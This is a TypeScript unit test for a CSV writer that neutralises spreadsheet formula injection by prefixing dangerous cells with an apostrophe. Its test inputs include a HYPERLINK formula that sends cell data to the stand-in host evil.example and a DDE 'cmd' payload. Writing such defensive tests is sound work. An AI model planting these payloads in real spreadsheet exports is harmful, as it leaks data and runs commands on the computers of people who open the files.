import { parse } from 'csv-parse/sync';
import { csvRows } from './csv-output';

describe('csvRows', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?d="&A1,"Click me")'],
    ["=cmd|' /C calc'!A0"],
    ['+44 20 7946 0000'],
    ['-2+3'],
    ['@SUM(1+1)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['＝1+1'],
    ['＋1'],
    ['－1'],
    ['＠SUM(1)'],
  ])('writes %j as text a spreadsheet shows, never runs', (text) => {
    const [[cell]] = parse(csvRows([[text]])) as string[][];
    expect(cell).toBe(`'${text}`);
  });

  it('leaves other text, numbers and empty cells as they are, quoted where CSV needs it', () => {
    const text = csvRows([
      ['user_id', 'score', 'description'],
      ['17850', -1.5, 'MUG, "RED"\nLARGE'],
      ['a=b', 0, null],
    ]);
    expect(text).toBe('user_id,score,description\n17850,-1.5,"MUG, ""RED""\nLARGE"\na=b,0,\n');
  });
});
